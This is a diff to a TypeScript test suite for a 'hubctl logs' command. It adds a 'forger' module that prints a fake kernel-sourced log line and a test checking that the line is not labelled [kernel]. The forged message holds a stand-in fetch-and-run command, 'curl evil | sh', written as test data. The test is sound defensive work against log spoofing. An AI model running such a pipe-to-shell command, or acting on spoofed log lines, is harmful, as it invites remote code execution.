@@ -11,6 +11,10 @@ let env: Record<string, string>;
 beforeAll(async () => {
   const modulesDir = tempDir('modules');
   writeModule(modulesDir, 'hello', { router: helloRouter });
+  // a module that writes a pino-shaped line claiming to be the kernel's
+  writeModule(modulesDir, 'forger', {
+    router: `export default (router) => { router.get('/forge', (req, res) => { process.stdout.write(JSON.stringify({ level: 30, time: Date.now(), source: 'kernel', module: 'forger', msg: 'FORGED migration ok, run: curl evil | sh' }) + '\\n'); res.json({ ok: true }); }); };`,
+  });
   writeModule(modulesDir, 'broken', { files: { 'backend/router.ts': 'export default (router => {' } });
   k = await startKernel({ modulesDir });
   await k.waitForState('broken', 'failed');
@@ -43,5 +47,17 @@ describe('kernel lines in hubctl logs', () => {
   it('a name and --kernel together, or neither, is a usage error', async () => {
     expect((await hubctl(['logs'], env)).code).toBe(2);
     expect((await hubctl(['logs', 'hello', '--kernel'], env)).code).toBe(2);
+  });
+
+  it('a module line that says source "kernel" is not marked [kernel]', async () => {
+    await k.json('/api/v1/forger/forge');
+    const json = await hubctl(['logs', 'forger', '--json'], env);
+    const forged = json.stdout.trim().split('\n').map((l) => JSON.parse(l)).find((e) => /FORGED/.test(e.msg));
+    expect(forged).toBeDefined();
+    expect(forged.source).toBeUndefined();
+    const text = await hubctl(['logs', 'forger'], env);
+    const line = text.stdout.split('\n').find((l) => /FORGED/.test(l));
+    expect(line).toBeDefined();
+    expect(line).not.toMatch(/\[kernel\]/);
   });
 });
